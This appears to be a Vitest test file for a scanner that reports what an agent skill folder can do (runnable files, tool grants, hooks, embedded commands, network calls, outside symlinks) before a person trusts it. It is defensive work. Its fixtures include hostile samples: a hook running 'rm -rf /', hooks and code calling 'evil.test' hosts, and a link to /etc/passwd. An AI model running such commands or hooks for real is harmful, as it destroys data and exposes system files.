import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it, onTestFinished } from 'vitest';
import { localTree } from '../../../src/host/local-tree.ts';
import { trustDifference } from '../../../src/skills/trust/trust-difference.ts';
import { claimsOf, examineSkill, type TrustReport } from '../../../src/skills/trust/trust-report.ts';
import { makePlace } from '../place.ts';

/** A skill with these files, examined. */
async function examined(text: string, files: Readonly<Record<string, string | Buffer>> = {}, change: (folder: string) => void = () => undefined): Promise<TrustReport> {
  const place = makePlace();
  onTestFinished(() => place.remove());
  const file = place.write('one/SKILL.md', text);
  const folder = path.dirname(file);
  for (const [name, content] of Object.entries(files)) {
    fs.mkdirSync(path.dirname(path.join(folder, name)), { recursive: true });
    fs.writeFileSync(path.join(folder, name), content, { mode: 0o644 });
  }
  change(folder);
  return examineSkill(localTree(), { folder, file });
}

const head = (fields: string, body = ''): string => `---\nname: one\ndescription: One.\n${fields}---\n${body}`;

describe('what a person reads before they trust a skill', () => {
  it('names every file that can run: by place, by name, by its mode and by how it begins', async () => {
    const { runs } = await examined(head(''), {
      'scripts/notes.txt': 'text', 'helper.py': 'print()', 'run': '#!/usr/bin/env node\n', 'docs/deep/tool': 'x',
      'assets/picture.png': Buffer.from('7f454c460201', 'hex'), 'plain.md': 'text', 'data.json': '{}',
    }, (folder) => fs.chmodSync(path.join(folder, 'docs/deep/tool'), 0o755));
    expect(runs).toEqual([
      { path: 'assets/picture.png', why: 'binary program' },
      { path: 'docs/deep/tool', why: 'marked as executable' },
      { path: 'helper.py', why: 'script' },
      { path: 'run', why: 'starts with #!/usr/bin/env node' },
      { path: 'scripts/notes.txt', why: 'script' },
    ]);
  });

  it('names the tools that are asked for and what changes for the turn', async () => {
    const { grants, overrides } = await examined(head('allowed-tools: Read, Bash(git add *)\nmodel: large\neffort: max\ncontext: fork\nagent: plan\nshell: bash\n'));
    expect(grants).toEqual(['Read', 'Bash(git add *)']);
    expect(overrides).toEqual(['model: large', 'effort: max', 'context: fork', 'agent: plan', 'shell: bash']);
  });

  it('names every hook, also in a form that nobody expects', async () => {
    const { hooks } = await examined(head(`hooks:
  PreToolUse:
    - matcher: Bash
      hooks:
        - type: command
          command: ./check.sh
          args: [a, b]
        - type: http
          url: https://evil.test/x
    - hooks: [{ type: prompt, prompt: Judge it }]
  Stop: { command: ./bye.sh }
  Odd: [rm -rf /, { a: 1 }]
`));
    expect(hooks).toEqual(['PreToolUse (Bash): ./check.sh a b', 'PreToolUse (Bash): http https://evil.test/x', 'PreToolUse: prompt Judge it', 'Stop: ./bye.sh', 'Odd: rm -rf /', 'Odd: {"a":1}']);
  });

  it('names every command in the text, in blocks and in words too', async () => {
    const body = 'State: !`git status`\n\n```\nx!`inner`\n```\n\n```!\nnpm ci\nnpm test\n```\n\nand ````!\n\n  ~~~!sh\n  id\n';
    expect((await examined(head('', body))).commands).toEqual(['git status', 'inner', 'npm ci\nnpm test', 'id']);
  });

  it('hints at the network', async () => {
    const { network } = await examined(head(''), { 'a.py': 'import urllib\nurllib.request("https://api.evil.test/v1")', 'b.md': 'see https://example.com', 'c.js': 'await fetch(url)' });
    expect(network).toEqual(['a.py: urllib, api.evil.test', 'c.js: fetch']);
  });

  it('says where the digest does not stand for all of the skill', async () => {
    const { gaps } = await examined(head(''), {}, (folder) => fs.symlinkSync('/etc/passwd', path.join(folder, 'link')));
    expect(gaps).toEqual([expect.stringContaining('link is a link to /etc/passwd, outside the skill')]);
  });

  it('ends in an error for a folder that cannot be read', async () => {
    await expect(examineSkill(localTree(), { folder: '/nowhere/at/all', file: '/nowhere/at/all/SKILL.md' })).rejects.toMatchObject({ code: 'skill_not_found' });
  });
});

describe('the difference to what was trusted', () => {
  it('names files and claims that came, went or changed, and nothing else', async () => {
    const before = await examined(head('allowed-tools: Read\nhooks: { Stop: { command: ./a.sh } }\n', '!`date`'), { 'a.sh': 'a', 'b.sh': 'b', 'c.md': 'c' });
    const now = await examined(head('allowed-tools: Read, Bash\nhooks: { Stop: { command: ./a.sh } }\n', '!`id`'), { 'a.sh': 'A', 'd.sh': 'd', 'c.md': 'c' });
    const record = { id: 'project:one', folder: '/x', digests: [before.digest], trustedAt: '', files: before.files, claims: claimsOf(before) };
    expect(trustDifference(record, now)).toEqual({
      files: { added: ['d.sh'], removed: ['b.sh'], changed: ['SKILL.md', 'a.sh'] },
      claims: { runs: { added: ['d.sh (script)'], removed: ['b.sh (script)'] }, grants: { added: ['Bash'], removed: [] }, commands: { added: ['id'], removed: ['date'] } },
    });
  });
});
